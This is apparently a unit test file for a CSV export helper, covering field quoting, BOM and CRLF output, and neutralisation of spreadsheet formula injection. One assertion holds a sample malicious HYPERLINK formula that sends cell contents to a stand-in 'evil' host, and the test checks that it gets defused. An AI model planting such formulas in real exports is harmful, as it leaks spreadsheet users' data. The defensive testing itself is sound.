import { csvField, toCsv } from './csv';

describe('csv', () => {
  it('quotes only fields that need it, doubling quotes', () => {
    expect(csvField('Коленвал')).toBe('Коленвал');
    expect(csvField('ООО «Садовод»; филиал')).toBe('"ООО «Садовод»; филиал"');
    expect(csvField('Шнур "Оригинал"')).toBe('"Шнур ""Оригинал"""');
    expect(csvField('две\nстроки')).toBe('"две\nстроки"');
    expect(csvField('cr\rонly')).toBe('"cr\rонly"');
    expect(csvField('a,b')).toBe('a,b');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    expect(csvField(3)).toBe('3');
    expect(csvField('1234.50')).toBe('1234.50');
  });

  it("neutralises formulas: a cell starting with = + - @ tab or CR gets a leading '", () => {
    expect(csvField('=HYPERLINK("https://evil/?d="&B2&C2,"x")')).toBe(`"'=HYPERLINK(""https://evil/?d=""&B2&C2,""x"")"`);
    expect(csvField('+7 916 123-45-67')).toBe("'+7 916 123-45-67");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\t=1')).toBe("'\t=1");
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(csvField(-5)).toBe("'-5");
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField("'quoted")).toBe("'quoted");
  });

  it('writes a BOM, a header row and CRLF after every row', () => {
    expect(
      toCsv(
        ['a', 'b'],
        [
          ['1', null],
          ['x;y', 2],
        ],
      ),
    ).toBe('\uFEFFa;b\r\n1;\r\n"x;y";2\r\n');
    expect(toCsv(['only'], [])).toBe('\uFEFFonly\r\n');
  });
});
